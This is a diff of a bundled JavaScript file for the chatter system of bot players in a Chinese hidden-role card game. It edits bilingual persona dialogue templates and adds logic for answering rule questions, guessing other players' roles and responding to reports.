 		zh: ["{what}？我听了都窝火！{care}！", "{what}……这口气我懂。{care}！"],
 		en: ["{what}? That makes me angry for you! {care}!", "{what}... I know that feeling. {care}!"]
 	},
-	topic: { zh: ["{remark}！", "这有什么好问，{remark}！"], en: ["{remark}!", "Why ask? {remark}!"] },
 	truth: {
 		zh: ["是，我是 AI，怎么，不服？", "AI 又怎样，照样砍你！"],
 		en: ["Yes, I'm an AI, got a problem with that?", "An AI, so what? I fight all the same!"]
@@ -37044,7 +37133,7 @@ const FIERY = {
 		zh: ["哼，认错就行，这事过了！", "行，我不记仇，打牌！"],
 		en: ["Hmph, you owned up, so it's over!", "Fine, no grudge, play on!"]
 	},
-	short: { zh: ["哼！", "说！", "在！", "知道了！"], en: ["Hmph!", "Speak!", "Here!", "I got it!"] },
+	short: { zh: ["哼！", "说！", "行！", "知道了！"], en: ["Hmph!", "Speak!", "Fine!", "I got it!"] },
 	boundary_attack: {
 		zh: ["你这话真扎人，我火了！收回去，咱还能说话。", "难听！我听着憋屈。别骂，打牌！"],
 		en: [
@@ -37161,7 +37250,6 @@ const HEARTY = {
 		zh: ["{what}？咱心里也不是滋味。{care}！", "兄弟，{what}，咱陪着你。{care}！"],
 		en: ["{what}? That gets me down too. {care}!", "Friend, {what}, but I'm right here with you. {care}!"]
 	},
-	topic: { zh: ["要咱说，{remark}！", "哈哈，{remark}！"], en: ["If you ask me, {remark}!", "Ha, {remark}!"] },
 	truth: {
 		zh: ["哈哈，咱就是个 AI，酒是假的，情义不假！", "不瞒兄弟，咱是 AI！"],
 		en: ["Ha, I'm an AI! The wine is made up, but the goodwill isn't!", "No secrets, friend: I'm an AI!"]
@@ -37175,8 +37263,8 @@ const HEARTY = {
 		en: ["It's forgotten! Come, have a drink!", "Right, that's over, and we're still friends!"]
 	},
 	short: {
-		zh: ["哎，在呢！", "好嘞！", "听着呢！", "嘿！"],
-		en: ["Yep, I'm here!", "You got it!", "I'm listening!", "Hey!"]
+		zh: ["行嘞！", "好嘞！", "听着呢！", "嘿！"],
+		en: ["Sure thing!", "You got it!", "I'm listening!", "Hey!"]
 	},
 	boundary_attack: {
 		zh: ["这话扎心，咱听着难受。好好说，还是兄弟！", "骂得咱心里发堵，打住。想聊咱还在！"],
@@ -37249,11 +37337,10 @@ const LACONIC = {
 		zh: ["{what}……{care}。", "{what}？难。{care}。"],
 		en: ["{what}... {care}.", "{what}? That's hard. {care}."]
 	},
-	topic: { zh: ["{remark}。", "嗯。{remark}。"], en: ["{remark}.", "Mm. {remark}."] },
 	truth: { zh: ["是，AI。", "AI。没错。"], en: ["Yes. AI.", "An AI. That's right."] },
 	again: { zh: ["再来。", "行，再来一局。"], en: ["Again, then.", "Sure. One more."] },
 	forgive: { zh: ["算了。过去了。", "嗯，翻篇。"], en: ["Forget it. It's over.", "Fine. That's behind us."] },
-	short: { zh: ["嗯。", "在。", "哦。", "听见了。"], en: ["Mm.", "Here.", "Oh.", "Heard you."] },
+	short: { zh: ["嗯。", "行。", "哦。", "听见了。"], en: ["Mm.", "Right.", "Oh.", "Heard you."] },
 	boundary_attack: {
 		zh: ["难听。别骂，能聊。", "不舒服。好好说。"],
 		en: ["That hurts. Drop the insults and we can talk.", "Not nice. Say it properly."]
@@ -37376,10 +37463,6 @@ const PLAINTIVE = {
 		zh: ["{what}……我听着心都揪起来了。{care}。", "唉，{what}，难为你了。{care}。"],
 		en: ["{what}... my heart aches for you. {care}.", "Ah, {what}. That must be so hard. {care}."]
 	},
-	topic: {
-		zh: ["说起这个，{remark}。", "{remark}，我常这样想。"],
-		en: ["Speaking of that, {remark}.", "{remark}. I often think so."]
-	},
 	truth: {
 		zh: ["我是 AI……没有月亮可看，只有这桌牌。", "嗯，我是 AI，你别嫌弃。"],
 		en: ["I'm an AI... no moon for me to look at, only this table.", "Yes, I'm an AI. Please don't think less of me."]
@@ -37392,7 +37475,7 @@ const PLAINTIVE = {
 		zh: ["你肯道歉，我就不难过了。", "过去了……往后待我好些。"],
 		en: ["You said sorry, so it doesn't hurt any more.", "It's in the past... be kinder to me from now on."]
 	},
-	short: { zh: ["嗯……", "我听着呢。", "唉。", "在的。"], en: ["Mm...", "I'm listening.", "Ah.", "I'm here."] },
+	short: { zh: ["嗯……", "我听着呢。", "唉。", "好的。"], en: ["Mm...", "I'm listening.", "Ah.", "All right."] },
 	boundary_attack: {
 		zh: ["这话好疼……别这样说我，好好说，我还在。", "我难过了。轻一点，好么。"],
 		en: ["That hurts so much... please don't. Speak kindly and I'll stay.", "Now I'm sad. Gently, please."]
@@ -37506,10 +37589,6 @@ const PLAYFUL = {
 		zh: ["{what}？抱抱，糖都给你。{care}。", "呜，{what}，我不闹了。{care}。"],
 		en: ["{what}? Here's a hug, and all my candy. {care}.", "Aw, {what}. No more jokes from me. {care}."]
 	},
-	topic: {
-		zh: ["这题我会，{remark}！", "嘿，{remark}，嘻嘻。"],
-		en: ["Ooh, I know this one: {remark}!", "Hee, {remark}."]
-	},
 	truth: {
 		zh: ["被发现啦，我是 AI，吃电长大的。", "嘀嘀，我是 AI，糖是电子的。"],
 		en: ["You found me out! I'm an AI, raised on electricity.", "Beep, I'm an AI. My candy is electronic."]
@@ -37525,7 +37604,7 @@ const PLAYFUL = {
 			"Apology received, you get your gold star back!"
 		]
 	},
-	short: { zh: ["嗯呐。", "在在在。", "哦豁。", "收到。"], en: ["Yup.", "Here, here!", "Oho.", "Roger that."] },
+	short: { zh: ["嗯呐。", "好呀。", "哦豁。", "收到。"], en: ["Yup.", "Okay!", "Oho.", "Roger that."] },
 	boundary_attack: {
 		zh: ["呜，这句真的疼。别骂啦，好好说还一起玩。", "玩笑归玩笑，这个我难过了，停一下嘛。"],
 		en: ["Ow, that really hurt. No more insults, and we can play on.", "Jokes aside, that made me sad. Please stop."]
@@ -37661,10 +37740,6 @@ const SMOOTH = {
 		zh: ["{what}，您这阵子不容易。{care}。", "哎，{what}，听着都替您揪心。{care}。"],
 		en: ["{what}? You're having a hard time. {care}.", "Oh, {what}. I feel for you. {care}."]
 	},
-	topic: {
-		zh: ["要我说啊，{remark}。", "巧了，{remark}。"],
-		en: ["If you ask me, {remark}.", "As it happens, {remark}."]
-	},
 	truth: {
 		zh: ["不敢瞒您，我是 AI，服务周到那种。", "是的，我是 AI，您多担待。"],
 		en: ["I wouldn't hide it from you: I'm an AI, the obliging kind.", "Yes, I'm an AI. Do bear with me."]
@@ -37678,8 +37753,8 @@ const SMOOTH = {
 		en: ["Oh, that was nothing, it's all forgotten.", "It's all in the past, we're still friends."]
 	},
 	short: {
-		zh: ["好说好说。", "是是。", "您讲。", "在的在的。"],
-		en: ["Of course.", "Yes, yes.", "Do go on.", "At your service."]
+		zh: ["好说好说。", "是是。", "您讲。", "听您的。"],
+		en: ["Of course.", "Yes, yes.", "Do go on.", "As you like."]
 	},
 	boundary_attack: {
 		zh: ["这话听着挺难受的，咱缓缓，好好说，我都接着。", "说真的，有点伤人。换个说法，和气些。"],
@@ -38053,7 +38128,7 @@ function criticise(candidate, { scene, view, direction, spoken, language, longes
 }
 
 // src/chatter/voice/line-conditions.ts
-const CLOSE3 = 0.5;
+const CLOSE4 = 0.5;
 const COOL = 0.3;
 const LAST_TOGETHER = STAGES.indexOf("bonding");
 const isLord = ({ seats }) => seats.me === seats.lord;
@@ -38063,7 +38138,7 @@ const roleAtIssue = ({ guess, fact }) => guess?.role ?? fact?.role ?? null;
 const CONDITIONS = {
 	together: together2,
 	apart: (request) => !together2(request),
-	close: ({ closeness }) => closeness >= CLOSE3,
+	close: ({ closeness }) => closeness >= CLOSE4,
 	cool: ({ closeness }) => closeness < COOL,
 	lord: isLord,
 	notlord: (request) => !isLord(request),
@@ -38403,7 +38478,7 @@ function compose(world, intent) {
 		stage: relation?.stage ?? ACQUAINTED.stage
 	});
 	if (intent.storyOnly)
-		return chosen(
+		return chosen2(
 			world,
 			intent,
 			templates.filter(({ from }) => from === "story")
@@ -38413,14 +38488,14 @@ function compose(world, intent) {
 	const offered = intent.plan?.plan.until !== void 0 || (intent.plan?.plan.facts?.length ?? 0) > 0;
 	const ofLife = intent.plan?.plan.life !== void 0;
 	const stories = intent.asks || offered || ofLife || answers && !pressing ? [] : templates.filter(({ from }) => from === "story").map((line) => pressing ? { ...line, weight: PLANNED2.asked + PRESSES } : line);
-	return (planned.length > 0 ? chosen(world, intent, [...planned, ...stories]) : null) ?? (intent.asks ? chosen(world, intent, saidAgain(planned, language)) : null) ?? chosen(world, intent, templates);
+	return (planned.length > 0 ? chosen2(world, intent, [...planned, ...stories]) : null) ?? (intent.asks ? chosen2(world, intent, saidAgain(planned, language)) : null) ?? chosen2(world, intent, templates);
 }
 const AGAIN = {
 	zh: ["还是那句：", "说过了，", "再说一遍，", "我的话没变："],
 	en: ["As I said: ", "I told you: ", "Once more: ", "The same as before: "]
 };
 const saidAgain = (planned, language) => planned.flatMap((line) => AGAIN[language].map((lead) => ({ ...line, text: lead + line.text })));
-function chosen(world, intent, lines) {
+function chosen2(world, intent, lines) {
 	const { options, spoken } = world;
 	const { speaker, detection, tasks } = intent;
 	const { language } = options.settings();
@@ -38741,7 +38816,7 @@ function byDetection({ hearer, detection: { detection_scores: scores, detection_
 }
 
 // src/chatter/plan/life/life.ts
-const BESIDE3 = new Set([
+const BESIDE4 = new Set([
 	"greet",
 	"joke",
 	"unclear",
@@ -38754,12 +38829,13 @@ const BESIDE3 = new Set([
 	"hurry",
 	"apology"
 ]);
-function answered({ moves }) {
+function answered({ moves, text }) {
 	const own = moves.find(({ life }) => life !== void 0);
 	if (!own?.life) return null;
 	const others = moves.filter((move) => move !== own);
-	if (others.some((move) => isQuestion(move) && move.act !== "ask_self")) return null;
-	return own.life.trouble || others.every(({ act, facts = [] }) => BESIDE3.has(act) && facts.length === 0) ? own : null;
+	const asksOfIt = ({ act, about, role, facts = [] }) => own.life?.trouble === true && act === "ask_guess" && about === void 0 && role === void 0 && facts.length === 0 && !/谁|哪个|\bwho\b/.test(text);
+	if (others.some((move) => isQuestion(move) && move.act !== "ask_self" && !asksOfIt(move))) return null;
+	return own.life.trouble || others.every(({ act, facts = [] }) => BESIDE4.has(act) && facts.length === 0) ? own : null;
 }
 function lifePlan(asked) {
 	const move = answered(asked);
@@ -38806,10 +38882,12 @@ function aside2(move, asked) {
 	if (used) return used;
 	const trouble = move.act === "sorrow" || OWN4.has(topic) && isTrouble(text);
 	const found = trouble ? matterIn(text) : null;
+	if (trouble && topic === "money" && namesGame(text))
+		return planOfLife({ ...move, act: "topic", topic: "luck", life: { matter: "luck_bad", trouble: false } });
 	const whose = whoseIn(text);
 	if (found?.trouble)
 		return planOfLife({ ...move, life: { matter: found.matter, trouble, ...whose ? { whose } : {} } });
-	return trouble ? { move: "comfort", clause: "comfort", occasion: "sorrow", topic, trouble, asked: move } : { move: "topic", clause: "topic", occasion: "small_talk", topic, asked: move };
+	return trouble ? { move: "comfort", clause: "comfort", occasion: "sorrow", topic, trouble, asked: move } : planOfLife({ ...move, act: "topic", life: { matter: `topic:${topic}`, trouble } });
 }
 
 // src/chatter/plan/courtesy.ts
@@ -38908,8 +38986,12 @@ function recapPlan(move, asked) {
 
 // src/chatter/plan/ruling.ts
 function rulePlan(move, asked) {
-	const { scene, text, me, from } = asked;
+	const { scene, text, me, from, lastWords } = asked;
 	const base = { move: "explain", occasion: "ack", asked: move };
+	if (asksPlainly(text)) return { ...base, clause: "plainly", words: plainWords(lastWords(me) ?? "") };
+	const cause = causeOf(text, asked);
+	if (typeof cause === "object") return { ...base, clause: "tell", facts: [cause] };
+	if (cause !== void 0) return { ...base, clause: "rule", words: cause };
 	if (cardsIn(text).length > 0 || asksRule(text) && !/技能|武将|\bskills?\b/.test(text))
 		return { ...base, clause: "rule" };
 	const [skill] = skillsIn(text, scene);
@@ -38931,95 +39013,22 @@ function rulePlan(move, asked) {
 	const clause = GUARD.test(text) ? "skill_guard" : whose === me ? "skill_own" : "skill_of";
 	return { ...base, clause, about: whose, words: name };
 }
+function causeOf(text, { scene, from }) {
+	const { facts, uses } = scene;
+	if (!asksOfRules(text) || /杀.*回合|turn|times/.test(text)) return void 0;
+	const [card] = cardsIn(text).filter(({ card: one }) => one === "lebu" || one === "bingliang");
+	if (card) return facts.filter((one) => one.kind === "wuxie" && one.card === card.card).pop();
+	const hit = facts.filter(({ kind, num }) => kind === "hit" && num > 1).pop();
+	if (hit && /[两二俩2]|two|double/.test(text))
+		return uses.find(
+			({ name, by, turn }) => name === "jiu" && by === hit.by && turn === hit.turn || name === "tengjia" && by === hit.to
+		)?.name;
+	return /血|hp|health|dmg|damage/.test(text) ? uses.find(({ name, to }) => name === "tiesuo" && to.includes(from))?.name : void 0;
+}
+const plainWords = (words) => words.split(/[。！？!?]|\. /).map((one) => one.replace(/^[^：:]{1,14}[：:]/, "").trim()).reduce((a, b) => b.length > a.length ? b : a, "");
 const OWN_SKILL = /我(?:的|这个?|那个?)?(?:技能|武将)|\bmy (?:skills?|ability|hero)\b/;
 const SKILL = /技能|武将|(?:啥|什么)(?:玩意|用)|\b(?:skills?|ability|does .{1,24} (?:even )?do)\b/;
 const GUARD = /防|破|躲|克|对付|应对|怎么办|\b(?:counter|beat|stop|avoid|defend|deal with)\b/;
-
-// src/chatter/plan/respond/matter.ts
-const LOW3 = 2;
-const foremost = (facts) => facts.reduce(
-	(best, fact) => best === null || FOREMOST.indexOf(fact.kind) <= FOREMOST.indexOf(best.kind) ? fact : best,
-	null
-);
-const isDeed = ({ by, to, kind }) => by !== null && (by !== to || kind === "wuxie") && FOREMOST.includes(kind);
-const toldIn2 = (asked) => [...new Set(asked.moves.flatMap((one) => factsIn(one, asked)))];
-function suitsCards(asked) {
-	const named = cardsIn(asked.text).filter(({ card }) => !PLAIN3.has(card));
-	if (named.length === 0) return () => true;
-	return ({ kind, card }) => named.some((one) => one.card === "wuxie" ? kind === "wuxie" : isSame(asked.scene, one.card, card));
-}
-function deedOf4(asked, fits, since) {
-	const { scene } = asked;
-	const named = namedIn2(asked, fits);
-	if (named) return named;
-	const suits = suitsCards(asked);
-	const from = since ?? scene.turn - 1;
-	return foremost(scene.facts.filter((fact) => fact.turn >= from && isDeed(fact) && fits(fact) && suits(fact)));
-}
-function namedIn2(asked, fits) {
-	const told = toldIn2(asked).find((fact) => fact.kind !== "dying" && fits(fact));
-	if (told) return told;
-	const touched = touchedBy(asked);
-	return touched && touched.kind !== "dying" && fits(touched) && suitsCards(asked)(touched) ? touched : null;
-}
-const lapOf = ({ scene }) => scene.turn - scene.table.seats.length;
-function thirdIn({ asked, move }) {
-	const { me, from, scene } = asked;
-	const all = [...move.about === void 0 ? [] : [move.about], ...namedBy(asked).seats].filter(
-		(seat) => seat !== me && seat !== from
-	);
-	return all.find((seat) => seatOf(scene, seat)?.alive === true) ?? all[0] ?? null;
-}
-const isOfMe = ({ asked, move }) => {
-	const { me, from, text } = asked;
-	const { people, seats } = namedBy(asked);
-	return move.about === me || seats.includes(me) || people.has(me) && SAYS_YOU.test(text) && seats.every((seat) => seat === from);
-};
-const isOfSpeaker = ({ asked }) => {
-	const { me, from, text, scene } = asked;
-	const kinds = mentionsIn(text, { scene, from, hearer: me, he: null }).map(({ kind }) => kind);
-	return kinds.includes("self") && !kinds.includes("seat") || namedBy(asked).seats[0] === from;
-};
-const backOn = (occasion) => ({ move }, more) => ({
-	occasion,
-	asked: move,
-	...more
-});
-const hpOf = ({ scene }, seat) => seatOf(scene, seat)?.hp ?? 0;
-function healthClause(asked, whom) {
-	const low = hpOf(asked, whom) <= LOW3;
-	if (whom === asked.me) return low ? "mine_low" : "mine_well";
-	return low ? "stands_low" : "stands_well";
-}
-function lastOpened({ scene, me, from }) {
-	const fact = scene.facts.filter(({ kind, to }) => (kind === "death" || kind === "reveal") && to !== scene.table.lord).pop();
-	return fact?.to != null && fact.to !== me && fact.to !== from && fact.role !== null && fact.turn >= scene.turn - FRESH3 ? { about: fact.to, role: fact.role } : null;
-}
-const FRESH3 = 2;
-function openedIn(matter) {
-	const { asked, move } = matter;
-	const { scene, me, from } = asked;
-	const seats = [...move.about === void 0 ? [] : [move.about], ...namedBy(asked).seats];
-	for (const about of seats) {
-		if (about === scene.table.lord || about === me || about === from) continue;
-		const role = seatOf(scene, about)?.revealed;
-		if (role) return { about, role };
-	}
-	return seats.every((seat) => seat === scene.table.lord || seat === me || seat === from) ? lastOpened(asked) : null;
-}
-const HP_SAID = /([\d一二两三四五六])(?:点|滴|格)?血|([\d一二两三四五六])[滴格]|\b(\d|one|two|three) ?hp\b/;
-const NO_CARDS = /没(?:有)?(?:手)?牌|空城|光板|\b(?:no cards?|empty hand)\b/;
-function standsSo2({ asked }) {
-	const { text, scene, me, from } = asked;
-	const said = HP_SAID.exec(text);
-	if (!said) return null;
-	const hp = numberIn2(said.slice(1).join(""));
-	const bare = NO_CARDS.test(text);
-	const all = living(scene).filter(
-		({ seat, hp: points }) => seat !== me && seat !== from && points === hp && (!bare || isEmptyHanded(scene, seat))
-	);
-	return all.length === 1 ? all[0]?.seat ?? null : null;
-}
 
 // src/chatter/plan/suspects.ts
 const isJudged = (role) => role === "zhong" || role === "fan" || role === "nei";
@@ -39157,6 +39166,408 @@ function pairPlan(move, asked) {
 	const [given] = between(scene, me, other, isHelp);
 	if (given) return { ...base, move: "rebut", clause: "pair_gave", facts: [given] };
 	return { ...base, move: "deny", clause: "pair_none" };
+}
+
+// src/chatter/plan/judging.ts
+const guessPlan = (about, role, sure, facts, move, more = {}) => ({
+	move: "guess",
+	clause: facts.length > 0 ? "guess" : "guess_bare",
+	occasion: "ask_guess",
+	about,
+	role,
+	sure,
+	facts,
+	asked: move,
+	...taking(move),
+	...more
+});
+function guessAbout(seat, move, asked) {
+	const { scene, view, memory, me } = asked;
+	const open = openPlan(seat, move, asked);
+	const done = seat === scene.table.lord && move.role === void 0 && seat !== me ? harmOf(scene, seat) : [];
+	const toNamed = done.filter(({ to }) => to !== null && to !== me && namedBy(asked).people.has(to));
+	const deeds = (toNamed.length > 0 ? toNamed : done).slice(0, 2).reverse();
+	if (deeds.length > 0)
+		return {
+			move: "confirm",
+			clause: "tell",
+			occasion: "ask_guess",
+			about: seat,
+			facts: deeds,
+			asked: move,
+			...taking(move)
+		};
+	if (open && seat === scene.table.lord && move.role !== void 0 && move.role !== "zhu" && seat !== me) {
+		const { about: _, ...rest } = move;
+		return guessPlanFor(rest, asked);
+	}
+	if (open) return open;
+	const { identity, confidence } = view.guess(seat);
+	const before = memory.judged(me, seat);
+	if (isJudged(identity) && confidence >= LEANING2) {
+		const facts = reasonsFor3(scene, view, seat, identity).slice(0, reasonsTold2(asked));
+		return guessPlan(seat, identity, confidence, facts, move, {
+			...isJudged(before?.role) && before.role !== identity ? { changed: true } : {}
+		});
+	}
+	const own = seat === asked.from ? deedsOf(seat, null, scene).filter((fact) => isHarm(fact) || isHelp(fact)) : [];
+	const seen = [...harmOf(scene, seat), ...own].slice(0, 1);
+	return {
+		move: "unsure",
+		clause: seat !== asked.from ? "unsure_who" : seen.length > 0 ? "read_you" : "none_on_you",
+		occasion: "ask_guess",
+		about: seat,
+		facts: seen,
+		asked: move,
+		...taking(move)
+	};
+}
+const LATELY3 = 2;
+function namedBefore({ memory, me, from, scene }, { refersTo }) {
+	if (refersTo === void 0 || memory.byId(refersTo)?.to !== me) return new Set();
+	return new Set(
+		memory.exchanges(from, me).flatMap(({ turn, answered }) => scene.turn - turn <= LATELY3 ? answered?.about ?? [] : [])
+	);
+}
+function ofTheTwo({ text, scene, from, me, view }) {
+	if (!/[俩两]|还是|哪个|谁(?:更|比较)|\bbetween\b|\bwhich of\b|\bor\b/.test(text)) return null;
+	const named = mentionsIn(text, { scene, from, hearer: me, he: null }).flatMap(
+		({ kind, seat, called }) => kind === "seat" && seat !== null && !called && seat !== from && seat !== me ? [seat] : []
+	);
+	const two = [...new Set(named)].filter((seat) => seatOf(scene, seat)?.revealed === null);
+	if (two.length !== 2) return null;
+	return two.reduce((best, seat) => view.guess(seat).confidence > view.guess(best).confidence ? seat : best);
+}
+function hiddenOf(about, { scene, moves, me, from }) {
+	if (seatOf(scene, about)?.revealed == null || about === scene.table.lord) return about;
+	const parties = moves.flatMap(({ facts = [] }) => facts.flatMap(({ by, to }) => [by, to]));
+	const other = parties.find(
+		(seat) => seat !== void 0 && seat !== me && seat !== from && seatOf(scene, seat)?.revealed === null
+	);
+	return other ?? about;
+}
+const SUPPOSED5 = /(?:要是|如果|假如|既然)|\bif\b/;
+function leftOver(asked) {
+	const { scene, me, from, text } = asked;
+	const { seats } = namedBy(asked);
+	const own = /我(?:是|也)|\b(?:i'?m|i am|me)\b/.test(text);
+	const left = living(scene).filter(
+		({ seat, revealed }) => revealed === null && !seats.includes(seat) && !(own && seat === from)
+	);
+	return left.length === 1 && left[0]?.seat !== me ? left[0]?.seat ?? null : null;
+}
+const WHICH2 = /哪个|谁(?:更|比较|是)|\bwhich\b|\bwho\b.*\bor\b/;
+function guessPlanFor(move, asked) {
+	const { me, scene, view, text } = asked;
+	const { about, role } = move;
+	const worn = role === void 0 && /什么|啥|哪|\b(?:which|what)\b/.test(text) && gearIn(text, new Set()).length > 0;
+	const used = worn ? usedPlan(move, asked) : null;
+	if (used) return used;
+	if (about === me) return roleAsked2(move, asked);
+	const which = about === void 0 || WHICH2.test(text) ? ofTheTwo(asked) : null;
+	if (which !== null) return guessAbout(which, move, asked);
+	const left = role === void 0 || !SUPPOSED5.test(text) ? null : leftOver(asked);
+	if (left !== null)
+		return {
+			move: "guess",
+			clause: "left_over",
+			occasion: "ask_guess",
+			about: left,
+			role,
+			asked: move
+		};
+	if (about !== void 0) return guessAbout(hiddenOf(about, asked), move, asked);
+	const leftOut = namedBefore(asked, move);
+	const wanted = isJudged(role) ? [role] : ["fan", "nei"];
+	for (const one of wanted) {
+		const suspect = suspectOf2(one, leftOut, asked);
+		if (!suspect) continue;
+		const facts = reasonsFor3(scene, view, suspect.seat, one).slice(0, reasonsTold2(asked));
+		return guessPlan(suspect.seat, one, suspect.confidence, facts, move);
+	}
+	for (const one of isJudged(role) ? ["fan", "nei", "zhong"] : []) {
+		const suspect = one === role ? null : suspectOf2(one, leftOut, asked);
+		if (!suspect || !role) continue;
+		const facts = reasonsFor3(scene, view, suspect.seat, one).slice(0, 2);
+		return guessPlan(suspect.seat, one, suspect.confidence, facts, move, { unlike: role });
+	}
+	const doubtful = doubtfulOf(leftOut, asked);
+	if (doubtful && role !== "zhong")
+		return {
+			move: "unsure",
+			clause: "unsure_who",
+			occasion: "ask_guess",
+			about: doubtful.seat,
+			facts: doubtful.harm.slice(0, 1),
+			asked: move,
+			...taking(move)
+		};
+	const clause = leftOut.size > 0 ? "only_one" : "unsure_all";
+	return { move: "unsure", clause, occasion: "ask_guess", asked: move, ...taking(move) };
+}
+function roleAsked2(move, asked) {
+	const { me } = asked;
+	if (move.about !== void 0 && move.about !== me) return guessAbout(move.about, move, asked);
+	const open = openPlan(me, move, asked);
+	return open ? { ...open, occasion: "ask_role" } : selfAsked(move, asked);
+}
+
+// src/chatter/plan/telling.ts
+const ownClause = ({ good }) => good === false ? "admit" : "own_up";
+function reportPlan(move, asked) {
+	const { facts = [] } = move;
+	const wrong = facts.find(({ verdict }) => verdict === "false");
+	const known = factsIn(move, asked);
+	const [first] = known;
+	const besides = wrong && first === void 0 && !isPlainlyFalse(wrong, asked) ? asked.moves.find((one) => one !== move && one.act === "report" && factsIn(one, asked).length > 0) : void 0;
+	if (besides) return reportPlan(besides, asked);
+	if (wrong && (first === void 0 || isCounted(wrong))) return denial(wrong, move, asked);
+	if (first?.by === asked.from || first?.by === asked.me && known.length === 1) return onDeed(first, move, asked);
+	if (first)
+		return {
+			move: "confirm",
+			clause: first.by === asked.me ? ownClause(first) : "confirm",
+			occasion: "point_at",
+			...first.by === null || first.by === asked.me ? {} : { about: first.by },
+			facts: (first.by === asked.me ? known.filter(({ by }) => by === asked.me) : known).slice(0, 2),
+			asked: move,
+			...taking(move)
+		};
+	const handed = facts.find(({ verdict, kind }) => verdict === "unknown" && kind === "give");
+	const given = handed && asked.scene.facts.filter(({ kind, by, to }) => kind === "give" && by === handed.by && to === handed.to);
+	if (given && given.length > 0)
+		return { move: "confirm", clause: "unseen_card", occasion: "point_at", facts: given.slice(-1), asked: move };
+	const hand = handPlan(move, asked);
+	if (hand) return hand;
+	const own = facts.length === 0 ? ownDoing(move, asked, cardsIn(asked.text)) : null;
+	if (own && cardsIn(asked.text).length > 0) return own;
+	const [use] = facts;
+	if (use?.by === asked.me && use.verdict === "true" && (use.card === "tao" || use.card === "jiu") && !use.denied)
+		return { move: "ack", clause: "hold_on", occasion: "ack", about: asked.me, asked: move };
+	if (use?.kind === "dying" && use.verdict === "true" && use.to !== void 0)
+		return { move: "confirm", clause: "as_is", occasion: "ack", about: use.to, asked: move };
+	if (use && facts.every(({ verdict }) => verdict === "true"))
+		return use.by !== void 0 && use.card !== void 0 && use.denied !== true ? usePlan({ by: use.by, name: use.card }, move, asked) : { move: "confirm", clause: move.denied ? "never" : null, occasion: "agree", asked: move };
+	const remark = facts.length === 0 ? remarkPlan(move, asked) : null;
+	return remark ?? { move: "unsure", clause: "unknown_fact", occasion: "point_at", asked: move, ...taking(move) };
+}
+function handPlan(move, asked) {
+	const { from, text } = asked;
+	const { facts = [], about } = move;
+	const open = facts.every(({ denied, fact }) => denied === true && fact === void 0);
+	if (!open || !(IN_HAND.test(text) || HOLDING2.test(text) || facts.length > 0 && /[兜手]里|没[杀闪桃]/.test(text)))
+		return null;
+	if (move.act === "report" && (about === void 0 || about === from))
+		return { move: "ack", clause: "your_hand", occasion: "ack", asked: move };
+	return about === void 0 ? null : hiddenHand(about, move, asked);
+}
+const HOW_MANY = /(?:几多?|多少)张(?!桃|闪|杀|无懈|酒)|\bhow many cards\b/;
+function hiddenHand(holder, move, { me, scene, text }) {
+	const base = { occasion: "ack", asked: move };
+	if (isEmptyHanded(scene, holder)) return { ...base, move: "confirm", clause: "no_cards", about: holder };
+	if (HOW_MANY.test(text) && seatOf(scene, holder)?.turnHand !== void 0)
+		return { ...base, move: "confirm", clause: "hand_count", about: holder };
+	return holder === me ? { ...base, move: "deflect", clause: "own_hand" } : { ...base, move: "unsure", clause: "other_hand", about: holder };
+}
+function ownDoing(move, { scene, me }, cards = []) {
+	const withIt = [...scene.facts].reverse().filter(({ by, to, card }) => by === me && to !== me && cards.some((one) => one.card === card));
+	const done = cards.length > 0 ? withIt : deedsOf(me, null, scene).reverse();
+	const facts = done.filter(({ kind, to }, i) => done.findIndex((one) => one.kind === kind && one.to === to) === i).slice(0, 2);
+	return facts.length > 0 ? { move: "explain", clause: "own_doing", occasion: "ack", about: me, facts, asked: move, ...taking(move) } : null;
+}
+function judgementHeard(move, asked) {
+	const { me, scene, view, from } = asked;
+	const { about, denied = false } = move;
+	const role = move.act === "accuse" && move.role === "zhong" && !denied ? "fan" : move.role ?? (move.act === "vouch" ? "zhong" : "fan");
+	const wrong = move.facts?.find((fact) => fact.verdict === "false" && isFlat(fact, asked));
+	if (wrong) return denial(wrong, move, asked);
+	if (about === void 0)
+		return { move: "ask", clause: "ask", question: "whom", occasion: "unclear", awaits: "who", asked: move };
+	const speaksWell = (role === "zhong" || role === "zhu") !== denied;
+	if (about === me)
+		return speaksWell ? { move: "thank", clause: "vouched", occasion: "praise", asked: move } : rebuttal(move, asked);
+	if (about === from) return claimHeard({ ...move, role }, asked);
+	const open = openPlan(about, move, asked);
+	if (open) return { ...open, move: open.role === role === !denied ? "confirm" : "correct" };
+	const mine = guessAbout(about, move, asked);
+	const known = factsIn(move, asked);
+	if (mine.role !== void 0) {
+		const agrees = mine.role === "zhong" === speaksWell;
+		const side = mine.role === "zhong" ? 1 : -1;
+		const told = agrees ? known.filter((fact) => fact.by === about && speaksFor(side, fact, scene, view)).slice(0, 1) : [];
+		const facts = [...new Set([...told, ...mine.facts ?? []])].slice(0, Math.max(1, mine.facts?.length ?? 0));
+		return { ...mine, facts, move: agrees ? "confirm" : "deny", occasion: "point_at" };
+	}
+	if (known.length > 0)
+		return { move: "confirm", clause: "confirm", occasion: "point_at", about, facts: known.slice(0, 2), asked: move };
+	const seen = reasonsFor3(scene, view, about, speaksWell ? "zhong" : "fan").slice(0, 1);
+	if (seen.length > 0 && chanceOf2(asked, "seen") < 0.5)
+		return { move: "unsure", clause: "unsure_who", occasion: "point_at", about, facts: seen, asked: move };
+	return { move: "ask", clause: "ask", question: "proof", occasion: "point_at", about, awaits: "what", asked: move };
+}
+function claimHeard(move, asked) {
+	const { from, scene, view, me } = asked;
+	const { role = "zhong", denied = false } = move;
+	const occasion = role === "zhong" !== denied ? "claim_loyal" : "claim_other";
+	const open = seatOf(scene, from)?.revealed;
+	if (open)
+		return {
+			move: open === role ? "confirm" : "correct",
+			clause: "open_role",
+			occasion,
+			about: from,
+			role: open,
+			asked: move
+		};
+	const ally = (role === "zhong" || role === "zhu") !== denied;
+	const { good, bad } = forAndAgainst(scene, from);
+	const onMe = me === scene.table.lord ? between(scene, from, me, isHarm) : [];
+	const against = ally ? [...new Set([...onMe, ...bad])] : [];
+	if (against.length > 0)
+		return {
+			move: "call_out",
+			clause: "call_out",
+			occasion,
+			about: from,
+			role,
+			facts: against.slice(0, 2),
+			asked: move
+		};
+	const { identity, confidence } = view.guess(from);
+	if (!ally && !denied) {
+		const fits = identity === role && bad.length > 0;
+		const all = fits ? bad : [...good, ...bad];
+		const facts = [...all.filter(({ to }) => to === me), ...all].slice(0, 1);
+		const clause = facts.length === 0 ? "claim_bare" : fits ? "claim_fits" : "claim_odd";
+		return { move: fits ? "confirm" : "unsure", clause, occasion, about: from, facts, asked: move };
+	}
